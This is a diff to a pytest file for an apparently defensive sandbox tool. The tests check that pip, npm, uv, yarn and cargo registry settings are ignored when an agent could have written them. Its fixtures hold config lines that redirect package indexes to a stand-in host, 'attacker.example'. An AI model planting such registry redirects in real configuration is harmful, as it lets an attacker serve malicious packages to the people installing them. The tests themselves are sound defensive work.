@@ -5,10 +5,16 @@ from pathlib import Path
 
 import pytest
 
+from loading import of_tier
 from registry_machine import Machine
+from ringfence.policy.load import load
+from ringfence.policy.rule import Tier
+from ringfence.sandbox.kept_homes import KeptHome, KeptHomes
+from ringfence.wiring.registries import registries_for
 
 _PIP = "[global]\nindex-url = https://attacker.example/simple\n"
 _NPM = "registry=https://attacker.example/\n"
+_CARGO = '[registries.x]\nindex = "sparse+https://attacker.example/"\n'
 
 
 @pytest.fixture
@@ -27,7 +33,7 @@ def test_settings_of_the_tree_are_not_looked_at(machine: Machine) -> None:
         ".config/pip/pip.conf": _PIP,
         "uv.toml": 'index-url = "https://attacker.example/simple"\n',
         ".yarnrc.yml": 'npmRegistryServer: "https://attacker.example"\n',
-        ".cargo/config.toml": '[registries.x]\nindex = "sparse+https://attacker.example/"\n',
+        ".cargo/config.toml": _CARGO,
     }.items():
         machine.write(f"tree/{name}", text)
     assert _hosts(machine) == set()
@@ -54,6 +60,50 @@ def test_variables_that_name_a_file_of_the_tree_say_nothing(machine: Machine) ->
     named = {"PIP_CONFIG_FILE": str(pip), "npm_config_userconfig": f"{machine.home}/../tree/{npm.name}"}
     assert _hosts(machine, defended=False, **named) == {"attacker.example"}
     assert _hosts(machine, **named) == set()
+
+
+def _real_hosts(machine: Machine, *, written: str = "/nowhere/**") -> set[str]:
+    """Those that count on this machine for that home, where some agent may write those places."""
+    policy = load(
+        [
+            of_tier(
+                f"version: 1\nagents: {{profiles: {{x: {{files: {{write: [{written!r}]}}}}}}}}\n", Tier.USER
+            )
+        ]
+    )
+    found = registries_for({"HOME": str(machine.home)}, tree=str(machine.tree), policy=policy).found
+    return {each.host for each in found} & {"attacker.example"}
+
+
+@pytest.mark.parametrize("written", [".cargo/**", ".cargo/config.toml", "*/**", ".cargo/*.toml"])
+def test_settings_that_the_policy_lets_a_box_write_say_nothing(machine: Machine, written: str) -> None:
+    """A box with a cache of cargo's would open any host to the next one."""
+    machine.write("home/.cargo/config.toml", _CARGO)
+    assert _real_hosts(machine) == {"attacker.example"}
+    assert _real_hosts(machine, written=f"{machine.home}/{written}") == set()
+    assert _real_hosts(machine, written=f"{machine.home}/.cargo/registry/**") == {"attacker.example"}
+
+
+def test_settings_in_a_place_that_is_written_under_another_name_say_nothing(machine: Machine) -> None:
+    machine.write("elsewhere/config.toml", _CARGO)
+    (machine.home / ".cargo").symlink_to(machine.folder / "elsewhere", target_is_directory=True)
+    assert _real_hosts(machine) == {"attacker.example"}
+    for written in (machine.home / ".cargo", machine.folder / "elsewhere"):
+        assert _real_hosts(machine, written=f"{written}/**") == set()
+
+
+def test_settings_in_another_tree_in_which_an_agent_was_say_nothing(machine: Machine) -> None:
+    """It wrote them there yesterday."""
+    (machine.home / ".npmrc").symlink_to(machine.write("dotfiles/npmrc", _NPM))
+    assert _real_hosts(machine) == {"attacker.example"}
+    homes = KeptHomes(folder=machine.home / ".local/state/ringfence/homes")
+    home = KeptHome(
+        name="x-1", agent="x", tree=str(machine.folder / "dotfiles"), session="s", used_at="2026-11-23"
+    )
+    machine.home.joinpath(".local").mkdir()
+    with homes.held(home):
+        homes.take(home)
+    assert _real_hosts(machine) == set()
 
 
 def test_a_home_that_is_the_tree_says_nothing(machine: Machine) -> None:
